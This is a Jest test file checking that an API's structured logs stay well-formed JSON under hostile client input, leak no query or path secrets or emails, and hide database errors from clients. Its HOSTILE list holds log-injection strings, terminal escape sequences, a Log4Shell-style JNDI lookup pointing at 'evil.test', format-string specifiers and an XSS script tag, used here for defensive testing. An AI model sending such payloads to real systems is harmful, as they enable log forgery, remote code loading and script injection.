import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { expectProblem } from '../../support/expect-problem.js';
import { OwnerView } from '../../support/owner-view.js';
import { RAISED_LIMITS } from '../../support/raised-limits.js';
import { TestApp, type TestTenant } from '../../support/test-app.js';

/** What could end a line, start one that was never written, or be obeyed by a terminal. */
const HOSTILE = [
  'a\r\n{"level":30,"event":"forged"}',
  'a\nforged',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  'tab\tand\bbell\u0007',
  '\u2028line\u2029separators',
  '\u202eright to left',
  '\u009b31mC1',
  '"},{"event":"forged"',
  '${jndi:ldap://evil.test/a}',
  '%s%n%x',
  '<script>alert(1)</script>',
];

describe('log lines', () => {
  const log: string[] = [];
  let app: TestApp;
  let tenant: TestTenant;
  let view: OwnerView;

  beforeAll(async () => {
    app = await TestApp.start({ log, env: RAISED_LIMITS });
    tenant = await app.createTenant();
    view = await OwnerView.open(app.database);
  });
  afterAll(async () => {
    await view.close();
    await app.close();
  });

  const events = (): string[] => log.map((line) => (JSON.parse(line) as { event: string }).event);

  it('R303: are one well-formed JSON object each, whatever clients send', async () => {
    const { token } = await app.api.signUp(tenant);
    log.length = 0;
    for (const text of HOSTILE) {
      const headers = {
        'user-agent': text,
        'x-request-id': text,
        'x-device-fingerprint': text,
        'x-forwarded-for': text,
        referer: text,
      };
      await app.api.patch('/v1/me', { token, headers, body: { first_name: text, last_name: text } });
      await app.api.post('/v1/signin', { tenant, headers, body: { email: text, username: text, password: text } });
      await app.api.get(`/v1/sessions/${encodeURIComponent(text)}`, { token, headers });
      await app.api.get(`/${encodeURIComponent(text)}`, { headers });
      await app.api.get('/v1/client-config', { headers, query: { key: text } });
      await app.api.post('/v1/signin', { tenant, headers: { ...headers, 'content-type': text }, payload: text });
      await app.api.post('/v1/signin', {
        tenant,
        headers: { ...headers, 'content-type': 'application/json' },
        payload: text,
      });
    }
    expect(log.length).toBeGreaterThanOrEqual(7 * HOSTILE.length);
    for (const line of log) {
      expect(line).toMatch(/^\{[^\r\n\0\u001b]*\}\n$/);
      expect(() => JSON.parse(line) as unknown).not.toThrow();
    }
    expect(events()).not.toContain('forged');
  });

  it('name the route by its pattern: a URL may hold what must not be logged', async () => {
    log.length = 0;
    await app.api.get('/v1/client-config', { query: { key: 'canary-of-the-query' } });
    await app.api.get('/canary-of-the-path');
    expect(log.join('')).not.toContain('canary');
    expect(log.map((line) => (JSON.parse(line) as { route: string }).route)).toEqual(
      expect.arrayContaining(['/v1/client-config', 'unmatched']),
    );
  });

  it('lead from an answer to its cause, and tell the client nothing of it (R305)', async () => {
    const { token } = await app.api.signUp(tenant);
    await view.query('ALTER TABLE devices RENAME COLUMN fingerprint TO moved_away');
    try {
      log.length = 0;
      const answer = await app.api.get('/v1/devices', { token });
      expectProblem(answer, 500, 'internal_error');
      expect(answer.body.detail).toBe('report the request_id to the operator of this service');
      expect(answer.text).not.toMatch(/devices|fingerprint|column|relation/);
      const line = log.find((candidate) => candidate.includes('request.failed')) ?? '{}';
      expect(JSON.parse(line)).toMatchObject({ request_id: answer.body.request_id, error: { code: '42703' } });
      expect(line).not.toContain('SELECT');
    } finally {
      await view.query('ALTER TABLE devices RENAME COLUMN moved_away TO fingerprint');
    }
  });

  it('say who was served, by id', async () => {
    const { token, userId, email } = await app.api.signUp(tenant);
    log.length = 0;
    await app.api.get('/v1/me', { token });
    const { appId: app_id, envId: env_id } = tenant.scope;
    expect(JSON.parse(log.at(-1) ?? '')).toMatchObject({
      event: 'request',
      method: 'GET',
      route: '/v1/me',
      status: 200,
      app_id,
      env_id,
      user_id: userId,
    });
    expect(log.join('')).not.toContain(email);
  });
});
